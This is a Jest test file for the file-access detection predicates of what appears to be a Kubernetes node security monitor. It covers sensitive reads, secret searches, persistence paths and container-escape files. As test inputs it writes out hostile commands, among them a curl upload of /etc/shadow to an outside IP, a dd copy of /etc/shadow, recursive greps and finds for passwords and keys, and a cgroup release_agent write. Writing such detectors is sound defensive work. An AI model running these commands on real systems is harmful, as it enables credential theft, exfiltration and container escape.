import { mergeDetectionLists } from '../../../../shared/detection/allowLists';
import { createDetectionContext, defaultDetectionContext } from '../../../../shared/detection/detectionContext';
import {
  commandFileArguments,
  hookSucceeded,
  isFileRead,
  isFileWrite,
  isHostExecutionFile,
  isImageStorePath,
  isNodeTakeoverFile,
  isRunByPackageManager,
  isRunByProvisioningAgent,
  namesHostExecutionFile,
  PersistenceLocation,
  persistenceLocationOf,
  resolvePath,
  runtimeSocketsNamed,
  secretSearchOf,
  sensitiveFileReads,
} from '../../../../shared/detection/predicates/nodeFiles';
import { fileAccessEvent, kprobeEvent, processExecEvent } from '../../../../shared/node/exampleNodeEvents';
import { type NodeEvent, type NodeProcess } from '../../../../shared/node/nodeEvent';
import { nodeRecordOf } from '../../../support/ruleHarness';

const context = defaultDetectionContext;

function eventOf(raw: Record<string, unknown>): NodeEvent {
  return nodeRecordOf(raw).event;
}

function process(binary: string, args = '', cwd?: string): NodeProcess {
  return { binary, arguments: args, ...(cwd === undefined ? {} : { cwd }) };
}

describe('nodeFiles', () => {
  describe('resolvePath', () => {
    it('when a path climbs with .., then it is normalised', () => {
      expect(resolvePath('/etc/../etc//./shadow')).toBe('/etc/shadow');
    });

    it('when a path is relative and the working directory is known, then it is resolved against it', () => {
      expect(resolvePath('shadow', '/etc')).toBe('/etc/shadow');
    });

    it('when a path is relative and no working directory is known, then it cannot be resolved', () => {
      expect(resolvePath('shadow')).toBeUndefined();
    });
  });

  describe('file hooks', () => {
    it('when security_file_permission carries the write mask, then it is a write and not a read', () => {
      const event = eventOf(fileAccessEvent({ path: '/etc/cron.d/job', write: true }));
      expect(isFileWrite(event)).toBe(true);
      expect(isFileRead(event)).toBe(false);
    });

    it('when security_file_permission carries the read mask, then it is a read and not a write', () => {
      const event = eventOf(fileAccessEvent({ path: '/etc/shadow' }));
      expect(isFileRead(event)).toBe(true);
      expect(isFileWrite(event)).toBe(false);
    });

    it('when a file is opened without a direction, then it counts as a possible read only', () => {
      const event = eventOf(fileAccessEvent({ path: '/etc/shadow', functionName: 'security_file_open' }));
      expect(isFileRead(event)).toBe(true);
      expect(isFileWrite(event)).toBe(false);
    });

    it('when a truncate hook names a file, then it is a write', () => {
      const event = eventOf(kprobeEvent({ functionName: 'security_path_truncate', args: [{ path_arg: { path: '/etc/ld.so.preload' } }] }));
      expect(isFileWrite(event)).toBe(true);
    });

    it('when the hook returns a negative errno, then the access did not succeed', () => {
      const event = eventOf(kprobeEvent({ functionName: 'security_file_permission', args: [{ file_arg: { path: '/etc/shadow' } }, { int_arg: 4 }], returnArg: { int_arg: -13 } }));
      expect(event.hook === undefined ? undefined : hookSucceeded(event.hook)).toBe(false);
    });
  });

  describe('sensitiveFileReads', () => {
    it('when cat names /etc/shadow, then the read is seen in the command arguments', () => {
      const reads = sensitiveFileReads(eventOf(processExecEvent({ binary: '/bin/cat', arguments: '/etc/shadow' })), context);
      expect(reads).toEqual([{ path: '/etc/shadow', pattern: '*/etc/shadow', via: 'command arguments' }]);
    });

    it('when a kernel hook reads the kubelet kubeconfig through a host mount, then it is a sensitive read', () => {
      const reads = sensitiveFileReads(eventOf(fileAccessEvent({ path: '/host/var/lib/kubelet/kubeconfig' })), context);
      expect(reads.map((read) => read.path)).toEqual(['/host/var/lib/kubelet/kubeconfig']);
    });

    it('when a pod reads its own service-account token, then nothing sensitive is read', () => {
      expect(sensitiveFileReads(eventOf(fileAccessEvent({ path: '/var/run/secrets/kubernetes.io/serviceaccount/token' })), context)).toEqual([]);
    });

    it('when the sensitive file is only written, then it is not a read', () => {
      expect(sensitiveFileReads(eventOf(fileAccessEvent({ path: '/etc/shadow', write: true })), context)).toEqual([]);
    });

    it('when a command that does not read files names one, then it is not a read', () => {
      expect(sensitiveFileReads(eventOf(processExecEvent({ binary: '/bin/ls', arguments: '-l /etc/shadow' })), context)).toEqual([]);
    });
  });

  describe('commandFileArguments', () => {
    it('when files are given as values (dd if=, curl -F @), then their paths are found', () => {
      expect(commandFileArguments(process('/bin/dd', 'if=/etc/shadow of=/tmp/s'))).toEqual(['/etc/shadow', '/tmp/s']);
      expect(commandFileArguments(process('/usr/bin/curl', '-F f=@/etc/shadow http://198.51.100.7/u'))).toEqual(['/etc/shadow']);
    });

    it('when a file is relative, then it is resolved against the working directory', () => {
      expect(commandFileArguments(process('/bin/cat', 'shadow', '/etc'))).toEqual(['/etc/shadow']);
    });
  });

  describe('secretSearchOf', () => {
    it('when find sweeps the file system for private keys, then it is a secret search', () => {
      expect(secretSearchOf(process('/usr/bin/find', '/ -type f -name id_rsa'))).toBe('find for id_rsa');
    });

    it('when find looks for certificates in one directory, then it is not', () => {
      expect(secretSearchOf(process('/usr/bin/find', '/etc/ssl/certs -name *.pem'))).toBeUndefined();
    });

    it('when grep searches / recursively for passwords, then it is a secret search', () => {
      expect(secretSearchOf(process('/bin/grep', '-ri password /'))).toBe('recursive grep for password');
    });

    it('when grep looks for a private key armour anywhere, then it is a secret search', () => {
      expect(secretSearchOf(process('/bin/grep', '-l "BEGIN RSA PRIVATE KEY" /app/config'))).toBe('grep for a private key');
    });

    it('when grep looks for a word in a log file, then it is not', () => {
      expect(secretSearchOf(process('/bin/grep', 'token /var/log/app.log'))).toBeUndefined();
    });
  });

  describe('isNodeTakeoverFile', () => {
    it.each(['/etc/shadow', '/host/etc/gshadow', '/var/lib/kubelet/kubeconfig', '/var/lib/kubelet/pki/kubelet-client-current.pem', '/etc/kubernetes/azure.json'])(
      'when the file is %s, then it gives the node away',
      (path) => {
        expect(isNodeTakeoverFile(path)).toBe(true);
      },
    );

    it('when the file is a user\'s SSH key, then it does not by itself', () => {
      expect(isNodeTakeoverFile('/home/azureuser/.ssh/id_rsa')).toBe(false);
    });
  });

  describe('persistenceLocationOf', () => {
    it.each([
      ['/etc/cron.d/sync', PersistenceLocation.cron],
      ['/var/spool/cron/crontabs/root', PersistenceLocation.cron],
      ['/host/etc/systemd/system/kworker.service', PersistenceLocation.systemdUnit],
      ['/root/.ssh/authorized_keys', PersistenceLocation.authorizedKeys],
      ['/etc/ld.so.preload', PersistenceLocation.preload],
      ['/etc/passwd', PersistenceLocation.accounts],
      ['/root/.bashrc', PersistenceLocation.shellStartup],
    ])('when the path is %s, then it is a %s location', (path, location) => {
      expect(persistenceLocationOf(path)).toBe(location);
    });

    it('when the path is inside the runtime\'s image store, then it is not a persistence location', () => {
      const path = '/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/41/fs/etc/cron.d/e2scrub_all';
      expect(isImageStorePath(path)).toBe(true);
      expect(persistenceLocationOf(path)).toBeUndefined();
    });

    it('when the path is an ordinary configuration file, then it is not a persistence location', () => {
      expect(persistenceLocationOf('/etc/hosts')).toBeUndefined();
    });
  });

  describe('container-escape files', () => {
    it('when a path is a release_agent or core_pattern, then the host kernel executes what it names', () => {
      expect(isHostExecutionFile('/tmp/cgrp/release_agent')).toBe(true);
      expect(isHostExecutionFile('/proc/sys/kernel/core_pattern')).toBe(true);
      expect(isHostExecutionFile('/sys/fs/cgroup/memory.max')).toBe(false);
    });

    it('when a script writes a release agent, then it names a host-executed file', () => {
      expect(namesHostExecutionFile('echo /cmd > /tmp/cgrp/release_agent')).toBe(true);
    });

    it('when a command names the Docker socket as a URL, then the socket is found', () => {
      expect(runtimeSocketsNamed(process('/usr/bin/docker', '-H unix:///var/run/docker.sock ps'), context)).toEqual(['/var/run/docker.sock']);
    });

    it('when a command names no socket, then none is found', () => {
      expect(runtimeSocketsNamed(process('/usr/bin/curl', 'http://localhost:8080/'), context)).toEqual([]);
    });
  });

  describe('expected writers', () => {
    it('when dpkg is an ancestor, then the process runs under a package manager', () => {
      const event = eventOf(
        processExecEvent({
          binary: '/usr/sbin/useradd',
          pod: null,
          parent: { binary: '/bin/sh', pod: null },
          ancestors: [{ binary: '/usr/bin/dpkg', arguments: '--configure -a', pod: null }],
        }),
      );
      expect(isRunByPackageManager(event, context)).toBe(true);
    });

    it('when Python runs unattended-upgrade (a script), then the process runs under a package manager', () => {
      const event = eventOf(processExecEvent({ binary: '/usr/sbin/useradd', pod: null, parent: { binary: '/usr/bin/python3', arguments: '/usr/bin/unattended-upgrade', pod: null } }));
      expect(isRunByPackageManager(event, context)).toBe(true);
    });

    it('when no ancestor is a package manager, then the process does not run under one', () => {
      const event = eventOf(processExecEvent({ binary: '/usr/sbin/useradd', pod: null, parent: { binary: '/bin/bash', pod: null } }));
      expect(isRunByPackageManager(event, context)).toBe(false);
    });

    it('when packageManagers is extended through the lists, then the added package manager counts', () => {
      const event = eventOf(processExecEvent({ binary: '/usr/sbin/useradd', pod: null, parent: { binary: '/usr/bin/pacman', arguments: '-Syu', pod: null } }));
      expect(isRunByPackageManager(event, context)).toBe(false);
      const extended = createDetectionContext(mergeDetectionLists({ packageManagers: { add: ['pacman'], remove: [] } }));
      expect(isRunByPackageManager(event, extended)).toBe(true);
    });

    it('when the Azure VM agent started a host process, then it runs under a provisioning agent', () => {
      const event = eventOf(processExecEvent({ binary: '/usr/sbin/useradd', pod: null, parent: { binary: '/usr/bin/python3', arguments: '-u /usr/sbin/waagent -run-exthandlers', pod: null } }));
      expect(isRunByProvisioningAgent(event, context)).toBe(true);
    });

    it('when provisioningAgents no longer lists the Azure VM agent, then its children are not trusted', () => {
      const event = eventOf(processExecEvent({ binary: '/usr/sbin/useradd', pod: null, parent: { binary: '/usr/bin/python3', arguments: '-u /usr/sbin/waagent -run-exthandlers', pod: null } }));
      const narrowed = createDetectionContext(mergeDetectionLists({ provisioningAgents: { add: [], remove: ['waagent'] } }));
      expect(isRunByProvisioningAgent(event, narrowed)).toBe(false);
    });

    it('when a container process claims the same parent, then it does not count as provisioning', () => {
      const event = eventOf(processExecEvent({ binary: '/usr/sbin/useradd', parent: { binary: '/usr/bin/python3', arguments: '-u /usr/sbin/waagent' } }));
      expect(isRunByProvisioningAgent(event, context)).toBe(false);
    });
  });
});
